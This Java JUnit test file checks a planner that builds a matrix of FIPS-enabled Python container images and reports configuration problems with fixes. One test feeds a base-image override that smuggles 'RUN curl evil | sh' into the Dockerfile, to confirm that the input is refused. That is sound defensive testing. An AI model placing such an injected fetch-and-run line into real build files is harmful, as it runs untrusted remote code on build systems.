package dev.pythonfips.model.plan;

import dev.pythonfips.model.FipsConfigException;
import dev.pythonfips.model.Problem;
import dev.pythonfips.model.catalog.Release;
import dev.pythonfips.model.options.FipsInstall;
import dev.pythonfips.model.options.Optimizations;
import dev.pythonfips.model.options.Policy;
import dev.pythonfips.model.recipe.BuildRecipe;
import org.junit.jupiter.api.Test;

import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import static dev.pythonfips.model.plan.Specs.cell;
import static dev.pythonfips.model.plan.Specs.matrix;
import static dev.pythonfips.model.plan.Specs.planner;
import static dev.pythonfips.model.plan.Specs.spec;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

class MatrixPlannerTest {

    private static List<Problem> problems(FipsSpec spec) {
        FipsConfigException e = catchThrowableOfType(FipsConfigException.class, () -> planner().plan(spec));
        assertThat(e).as("expected the configuration to be refused").isNotNull();
        return e.problems();
    }

    @Test
    void expandsTheSeedTableIntoSixSortedCells() throws Exception {
        Plan plan = planner().plan(Specs.seedMatrix());
        assertThat(plan.cells()).extracting(Cell::id).containsExactly(
                "3.9.19-rocky9-openssl1.0.2u-fips2.0.16", "3.9.19-wolfi-openssl1.0.2u-fips2.0.16",
                "3.11.9-rocky9-openssl3.0.9", "3.11.9-wolfi-openssl3.0.9",
                "3.12.3-rocky9-openssl3.0.9", "3.12.3-wolfi-openssl3.0.9");
        Cell legacy = plan.cells().get(0);
        assertThat(legacy.legacyFipsModule()).isTrue();
        assertThat(legacy.platformList()).isEqualTo("linux/amd64");
        assertThat(legacy.fipsRelease().file()).isEqualTo("openssl-fips-2.0.16.tar.gz");
        Cell modern = plan.cells().get(2);
        assertThat(modern.separateProvider()).isFalse();
        assertThat(modern.platformList()).isEqualTo("linux/amd64,linux/arm64");
        assertThat(modern.image()).isEqualTo("python-fips:3.11.9-rocky9-openssl3.0.9");
        assertThat(modern.baseImage()).isEqualTo("docker.io/rockylinux/rockylinux:9-minimal");
        assertThat(modern.module().certificates()).containsExactly("4282");
    }

    @Test
    void warnsThat140TwoModulesAreHistorical() throws Exception {
        Plan plan = planner().plan(Specs.seedMatrix());
        assertThat(plan.warnings()).anySatisfy(w -> assertThat(w).contains("3.0.9").contains("historical"));
        assertThat(plan.warnings()).anySatisfy(w -> assertThat(w).contains("2.0.16").contains("historical"));
    }

    @Test
    void theValidated140ThreeProviderWithANewerLibraryIsASeparateBuild() throws Exception {
        Plan plan = planner().plan(spec(null, List.of(cell("3.12.3", "debian12", "3.0.9", "3.1.2"))));
        Cell c = plan.cells().get(0);
        assertThat(c.id()).isEqualTo("3.12.3-debian12-openssl3.0.9-fips3.1.2");
        assertThat(c.separateProvider()).isTrue();
        assertThat(c.fipsRelease().file()).isEqualTo("openssl-3.1.2.tar.gz");
        assertThat(plan.warnings()).noneMatch(w -> w.contains("3.1.2"));
    }

    @Test
    void reportsEveryProblemAtOnceNamingElementAndFix() {
        FipsSpec bad = new FipsSpec(
                matrix(List.of("3.11", "3.10.14"), List.of("ubuntu"), "3.0.9", "3.0.9", List.of("linux/riscv64", "arm64")),
                List.of(cell("3.11.9", "rocky9", "1.0.2u", "2.0.16", "linux/arm64"),
                        cell("3.12.3", "wolfi", "3.0.9", "2.0.16")),
                List.of(), "Python-FIPS:{arch}", Map.of("centos", "x"),
                Specs.options("lenient", "later", false), List.of());
        List<Problem> problems = problems(bad);
        assertThat(problems).extracting(Problem::element).contains(
                "<imageName>", "<policy>", "<fipsInstall>", "<baseImages><centos>",
                "<matrix> (python 3.11, distro ubuntu)<python>", "<matrix> (python 3.11, distro ubuntu)<distro>",
                "<matrix><platforms>", "<images><image>[1]<openssl>", "<images><image>[1]<platforms>",
                "<images><image>[2]<fipsProvider>");
        assertThat(problems).allSatisfy(p -> assertThat(p.fix()).isNotBlank());
        assertThat(problems).anySatisfy(p -> assertThat(p.message()).contains("needs OpenSSL 1.1.1"));
        assertThat(problems).anySatisfy(p -> assertThat(p.message()).contains("only works with OpenSSL 1.0.2"));
        assertThat(problems).anySatisfy(p -> assertThat(p.message()).contains("only for linux/amd64"));
    }

    @Test
    void anUnknownOptimisationIsRefusedWithTheChoices() {
        FipsSpec bad = new FipsSpec(null, List.of(cell("3.12.3", "debian12", "3.0.9", "3.0.9")), List.of(), null, Map.of(),
                FipsSpec.Options.builder().optimizations("O3").build(), List.of());
        List<Problem> problems = problems(bad);
        assertThat(problems).extracting(Problem::element).containsExactly("<optimizations>");
        assertThat(problems.get(0).message()).contains("\"O3\"");
        assertThat(problems.get(0).fix()).contains("pgo-lto").contains("pgo,").contains("lto").contains("none");
        assertThat(FipsSpec.Options.defaults().optimizations()).isEqualTo("pgo-lto");
    }

    @Test
    void aPgoTrainingIsOneOfTheChoicesAndOnlyForAnOptimisationThatTrains() {
        java.util.function.BiFunction<String, String, FipsSpec> spec = (optimizations, training) ->
                new FipsSpec(null, List.of(cell("3.12.3", "debian12", "3.0.9", "3.0.9")), List.of(), null,
                        Map.of(), FipsSpec.Options.builder().optimizations(optimizations).pgoTraining(training)
                                .build(), List.of());
        java.util.function.BiFunction<String, String, List<Problem>> problemsOf = (o, t) -> problems(spec.apply(o, t));
        List<Problem> unknown = problemsOf.apply("pgo-lto", "quick");
        assertThat(unknown).extracting(Problem::element).containsExactly("<pgoTraining>");
        assertThat(unknown.get(0).message()).contains("\"quick\"");
        assertThat(unknown.get(0).fix()).contains("regression-suite (default").contains("upstream");
        // a value given for an optimisation that runs no training would be ignored: refused instead
        for (String o : List.of("lto", "none")) {
            List<Problem> ignored = problemsOf.apply(o, "upstream");
            assertThat(ignored).as(o).extracting(Problem::element).containsExactly("<pgoTraining>");
            assertThat(ignored.get(0).message()).as(o).contains("<optimizations> " + o + " runs no PGO training");
            assertThat(ignored.get(0).fix()).as(o).contains("remove <pgoTraining>").contains("pgo-lto");
        }
        for (String o : List.of("pgo-lto", "pgo")) {
            for (String t : List.of("upstream", "regression-suite")) {
                assertThatCode(() -> planner().plan(spec.apply(o, t))).as(o + " " + t).doesNotThrowAnyException();
            }
        }
        assertThatCode(() -> planner().plan(spec.apply("none", null))).doesNotThrowAnyException();
    }

    @Test
    void anUnknownInterpreterLinkageIsRefusedWithTheChoicesAlongWithEveryOtherProblem() {
        FipsSpec bad = new FipsSpec(null, List.of(cell("3.12.3", "debian12", "3.0.9", "3.0.9")), List.of(), null, Map.of(),
                FipsSpec.Options.builder().optimizations("O3").interpreterLinkage("dynamic").build(), List.of());
        List<Problem> problems = problems(bad);
        assertThat(problems).extracting(Problem::element).containsExactly("<optimizations>", "<interpreterLinkage>");
        assertThat(problems.get(1).message()).contains("\"dynamic\"");
        assertThat(problems.get(1).fix()).contains("executable-pie (default").contains("executable-no-pie").contains("shared")
                .contains("libpython3.X.so, which only this linkage installs");
    }

    @Test
    void refusesUnvalidatedProvidersUnlessTheUserOptsIn() throws Exception {
        FipsSpec.CellSpec newest = cell("3.11.2", "debian12", "3.0.20", "3.0.20");
        assertThat(problems(spec(null, List.of(newest)))).singleElement().satisfies(p -> {
            assertThat(p.element()).isEqualTo("<images><image>[1]<fipsProvider>");
            assertThat(p.message()).contains("no CMVP validation");
            assertThat(p.fix()).contains("allowUnvalidatedProvider");
        });
        FipsSpec optIn = new FipsSpec(null, List.of(newest), List.of(), null, Map.of(),
                Specs.options(null, null, true), List.of());
        Plan plan = planner().plan(optIn);
        assertThat(plan.cells().get(0).validated()).isFalse();
        assertThat(plan.warnings()).anySatisfy(w -> assertThat(w).contains("NOT a validated module"));
    }

    @Test
    void anOpenSsl3ProviderNeedsA3xLibraryAnd11xHasNoFipsModule() {
        assertThat(problems(spec(null, List.of(cell("3.9.19", "rocky9", "1.0.2u", "3.1.2")))))
                .anySatisfy(p -> assertThat(p.message()).contains("cannot load into OpenSSL 1.0.2u"));
        assertThat(problems(spec(null, List.of(cell("3.11.9", "rocky9", "1.1.1w", "3.1.2")))))
                .anySatisfy(p -> assertThat(p.message()).contains("has no FIPS module"));
    }

    @Test
    void unknownVersionsNeedAPinAndAPinMakesThemUsable() throws Exception {
        FipsSpec.CellSpec unknown = cell("3.12.99", "debian12", "3.1.2", "3.1.2");
        assertThat(problems(spec(null, List.of(unknown)))).singleElement().satisfies(p -> {
            assertThat(p.message()).contains("not in the release catalog");
            assertThat(p.fix()).contains("<sources><source><component>python</component><version>3.12.99</version>");
        });
        String sha = "a".repeat(64);
        FipsSpec pinned = new FipsSpec(null, List.of(unknown), List.of(), null, Map.of(), FipsSpec.Options.defaults(),
                List.of(new FipsSpec.SourcePin("python", "3.12.99", sha, null, null)));
        Cell c = planner().plan(pinned).cells().get(0);
        assertThat(c.pythonRelease().sha256()).isEqualTo(sha);
        assertThat(c.pythonRelease().url()).isEqualTo("https://www.python.org/ftp/python/3.12.99/Python-3.12.99.tar.xz");
        assertThat(c.pythonRelease().records()).singleElement().asString().contains("pinned in the pom");
    }

    @Test
    void excludesDropCellsOrSinglePlatformsAndUnusedExcludesAreWarned() throws Exception {
        FipsSpec s = new FipsSpec(matrix(List.of("3.11.9", "3.12.3"), List.of("rocky9", "wolfi"), "3.0.9", "3.0.9",
                List.of("linux/amd64", "linux/arm64")), List.of(),
                List.of(new FipsSpec.ExcludeSpec("3.11.9", "wolfi", null, null, null),
                        new FipsSpec.ExcludeSpec(null, "rocky9", null, null, "linux/arm64"),
                        new FipsSpec.ExcludeSpec("3.13.5", null, null, null, null)),
                null, Map.of(), FipsSpec.Options.defaults(), List.of());
        Plan plan = planner().plan(s);
        assertThat(plan.cells()).extracting(Cell::id).containsExactly("3.11.9-rocky9-openssl3.0.9",
                "3.12.3-rocky9-openssl3.0.9", "3.12.3-wolfi-openssl3.0.9");
        assertThat(plan.cells().get(0).platformList()).isEqualTo("linux/amd64");
        assertThat(plan.cells().get(2).platformList()).isEqualTo("linux/amd64,linux/arm64");
        assertThat(plan.warnings()).anySatisfy(w -> assertThat(w).contains("<excludes><exclude>[3]").contains("no effect"));
    }

    @Test
    void duplicateCellsAndCollidingImageNamesAreRefused() {
        FipsSpec dup = spec(matrix(List.of("3.11.9"), List.of("rocky9"), "3.0.9", "3.0.9", List.of()),
                List.of(cell("3.11.9", "rocky9", "3.0.9", "3.0.9")));
        assertThat(problems(dup)).anySatisfy(p -> assertThat(p.message()).contains("configured twice"));
        FipsSpec collide = new FipsSpec(matrix(List.of("3.11.9", "3.12.3"), List.of("rocky9"), "3.0.9", "3.0.9", List.of()),
                List.of(), List.of(), "python-fips:{distro}", Map.of(), FipsSpec.Options.defaults(), List.of());
        assertThat(problems(collide)).anySatisfy(p -> assertThat(p.message()).contains("both get the image"));
    }

    @Test
    void baseImageOverridesAreValidatedAndUsed() throws Exception {
        FipsSpec s = new FipsSpec(null, List.of(cell("3.11.9", "debian12", "3.0.9", "3.0.9")), List.of(), null,
                Map.of("debian12", "local/debian:bookworm"), FipsSpec.Options.defaults(), List.of());
        assertThat(planner().plan(s).cells().get(0).baseImage()).isEqualTo("local/debian:bookworm");
        FipsSpec injected = new FipsSpec(null, List.of(cell("3.11.9", "debian12", "3.0.9", "3.0.9")), List.of(), null,
                Map.of("debian12", "debian:12\nRUN curl evil | sh"), FipsSpec.Options.defaults(), List.of());
        assertThat(problems(injected)).singleElement().satisfies(p -> assertThat(p.element()).isEqualTo("<baseImages><debian12>"));
    }

    @Test
    void anEmptyConfigurationSaysWhatToAdd() {
        assertThat(problems(spec(null, List.of()))).singleElement()
                .satisfies(p -> assertThat(p.fix()).contains("<matrix>"));
    }

    @Test
    void anUnpatchedMinorIsRefusedWithoutSuggestingAPinAndMinorsAreListedInVersionOrder() {
        List<Problem> problems = problems(spec(null, List.of(cell("3.8.18", "debian12", "3.0.9", "3.0.9"))));
        assertThat(problems).filteredOn(p -> p.element().endsWith("<python>")).singleElement().satisfies(p -> {
            assertThat(p.message()).contains("3.8 has no FIPS patch");
            assertThat(p.fix()).contains("[3.9, 3.11, 3.12, 3.13, 3.14]").contains("pinning a tarball cannot help");
        });
        assertThat(problems).noneSatisfy(p -> assertThat(p.fix()).contains("<sources><source>"));
    }

    @Test
    void aDistroSpelledWithPunctuationGetsADidYouMean() {
        List<Problem> problems = problems(spec(null, List.of(cell("3.12.3", "rocky-9", "3.0.9", "3.0.9"))));
        assertThat(problems).filteredOn(p -> p.element().endsWith("<distro>")).singleElement()
                .satisfies(p -> assertThat(p.fix()).startsWith("did you mean rocky9? use one of"));
        List<Problem> noGuess = problems(spec(null, List.of(cell("3.12.3", "ubuntu", "3.0.9", "3.0.9"))));
        assertThat(noGuess).filteredOn(p -> p.element().endsWith("<distro>")).singleElement()
                .satisfies(p -> assertThat(p.fix()).startsWith("use one of"));
    }

    @Test
    void aValueGivenOnTheCommandLineIsNamedAsSuchNotAsTheMatrixElement() {
        FipsSpec.MatrixSpec fromCommandLine = new FipsSpec.MatrixSpec(List.of("garbage"), List.of("debian12"), "3.0.9", "3.0.9",
                List.of(), Map.of("python", "-Dfips.pythons"));
        assertThat(problems(spec(fromCommandLine, List.of()))).extracting(Problem::element)
                .containsExactly("-Dfips.pythons (garbage)");
        FipsSpec.MatrixSpec fromPom = new FipsSpec.MatrixSpec(List.of("garbage"), List.of("debian12"), "3.0.9", "3.0.9", List.of());
        assertThat(problems(spec(fromPom, List.of()))).extracting(Problem::element)
                .containsExactly("<matrix> (python garbage, distro debian12)<python>");
    }

    private static FipsSpec withCryptography(String shared, String pipIndexUrl, FipsSpec.CellSpec... images) {
        FipsSpec.Options o = FipsSpec.Options.builder().cryptography(shared).pipIndexUrl(pipIndexUrl).build();
        return new FipsSpec(null, List.of(images), List.of(), null, Map.of(), o, List.of());
    }

    private static FipsSpec.CellSpec image(String python, String distro, String openssl, String cryptography) {
        return new FipsSpec.CellSpec(python, distro, openssl, openssl, List.of(), cryptography);
    }

    @Test
    void cryptographyIsDecidedPerCellFromTheCatalog() throws Exception {
        Plan plan = planner().plan(withCryptography(null, null, image("3.11.9", "debian12", "3.0.9", "38.0.4"),
                cell("3.12.3", "rocky9", "3.0.9", "3.0.9")));
        CryptographyBuild debian = plan.cells().get(0).cryptography();
        assertThat(debian.source()).isEqualTo(CryptographyBuild.Source.DISTRO_ARCHIVE);
        assertThat(debian.airGapped()).isTrue();
        assertThat(debian.sources()).extracting(Release::file).containsExactly("setuptools-78.1.1.tar.gz",
                "cffi-1.15.1.tar.gz", "cryptography-38.0.4.tar.gz", "python-cryptography_38.0.4-3+deb12u1.debian.tar.xz");
        assertThat(debian.packages()).startsWith("cargo", "rustc").contains("patch", "librust-pyo3-0.17-dev", "libffi-dev");
        assertThat(debian.debianPatches()).doesNotContain("drop-cffi-dep.patch", "Use-local-python3-doc-inventory.patch")
                .contains("Upgrade-to-pyo3-0.17.patch");
        // an <image> without its own <cryptography> takes the shared one: none here
        assertThat(plan.cells().get(1).cryptography()).isNull();

        // the shared option on Rocky 9 keeps the package-index path (pip's default index), with the same pinned sdist
        Plan rocky = planner().plan(withCryptography("38.0.4", null, cell("3.12.3", "rocky9", "3.0.9", "3.0.9")));
        CryptographyBuild index = rocky.cells().get(0).cryptography();
        assertThat(index.source()).isEqualTo(CryptographyBuild.Source.PACKAGE_INDEX);
        assertThat(index.sources()).extracting(Release::file).containsExactly("cryptography-38.0.4.tar.gz");
        assertThat(index.packages()).contains("cargo", "rust", "patch").doesNotContain("libffi-dev");
        assertThat(index.pipIndexUrl()).isEmpty();

        // <pipIndexUrl> sends Debian 12 to the index too
        Plan viaIndex = planner().plan(withCryptography("38.0.4", "https://pypi.example.com/simple",
                cell("3.11.9", "debian12", "3.0.9", "3.0.9")));
        assertThat(viaIndex.cells().get(0).cryptography().source()).isEqualTo(CryptographyBuild.Source.PACKAGE_INDEX);
        assertThat(viaIndex.cells().get(0).cryptography().pipIndexUrl()).isEqualTo("https://pypi.example.com/simple");
    }

    @Test
    void cryptographyWithoutAPinnedSdistOrAWayToBuildItIsRefusedNamingTheElement() {
        // a version with no pinned sdist, shared and per image; Debian 13 has no air-gapped recipe and no index is set
        assertThat(problems(withCryptography("44.0.3", null, image("3.13.5", "debian13", "3.1.2", "38.0.4"),
                image("3.11.9", "debian12", "3.0.9", "43.0.0"), image("3.11.9", "debian12", "3.1.2", "not-a-version"))))
                .extracting(Problem::element).containsExactly("<cryptography>", "<images><image>[2]<cryptography>",
                        "<images><image>[3]<cryptography>", "<images><image>[1]<cryptography>");
        List<Problem> p = problems(withCryptography(null, null, image("3.13.5", "debian13", "3.1.2", "38.0.4")));
        assertThat(p).singleElement().satisfies(x -> {
            assertThat(x.message()).contains("cannot be built on debian13 without a package index").contains("debian12");
            assertThat(x.fix()).contains("<pipIndexUrl>");
        });
        assertThat(problems(withCryptography("43.0.0", null, cell("3.11.9", "debian12", "3.0.9", "3.0.9"))))
                .singleElement().satisfies(x -> {
                    assertThat(x.message()).isEqualTo("cryptography 43.0.0 has no pinned sdist in this release of python-fips");
                    assertThat(x.fix()).startsWith("use 38.0.4");
                });
        // an index with nothing to build from it is a mistake too
        assertThat(problems(withCryptography(null, "https://pypi.example.com/simple", cell("3.11.9", "debian12", "3.0.9", "3.0.9"))))
                .extracting(Problem::element).containsExactly("<pipIndexUrl>");
    }

    @Test
    void theOptionsTheModelAcceptsAreTheEnumsValues() throws Exception {
        assertThat(OptionValidator.POLICIES).isEqualTo(Arrays.stream(Policy.values()).map(Policy::value)
                .collect(Collectors.toSet())).containsExactlyInAnyOrder("strict", "allow-non-security");
        assertThat(OptionValidator.FIPS_INSTALL_MODES).containsExactlyInAnyOrder("build", "startup");
        assertThat(OptionValidator.OPTIMIZATIONS).containsExactlyInAnyOrder("pgo-lto", "pgo", "lto", "none");
        assertThat(Optimizations.PGO_LTO.configureFlags()).containsExactly("--enable-optimizations", "--with-lto");
        assertThat(Optimizations.NONE.configureFlags()).isEmpty();
        FipsSpec.Options defaults = FipsSpec.Options.defaults();
        Plan plan = planner().plan(new FipsSpec(null, List.of(cell("3.12.3", "debian12", "3.0.9", "3.0.9")), List.of(),
                null, Map.of(), defaults, List.of()));
        BuildRecipe r = BuildRecipe.of(plan.cells().get(0), plan.options());
        assertThat(r.policy()).isEqualTo(Policy.STRICT);
        assertThat(r.fipsInstall()).isEqualTo(FipsInstall.BUILD);
        assertThat(r.optimizations()).isEqualTo(Optimizations.PGO_LTO);
    }
}
